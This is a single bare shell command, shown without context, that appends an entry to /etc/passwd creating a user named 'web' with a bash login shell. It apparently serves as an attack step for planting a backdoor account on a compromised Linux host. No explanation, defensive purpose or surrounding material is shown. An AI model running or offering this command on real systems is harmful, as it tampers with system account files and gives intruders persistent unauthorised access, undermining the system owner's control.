echo 'web:x:901:100::/:/bin/bash' >> /etc/passwd
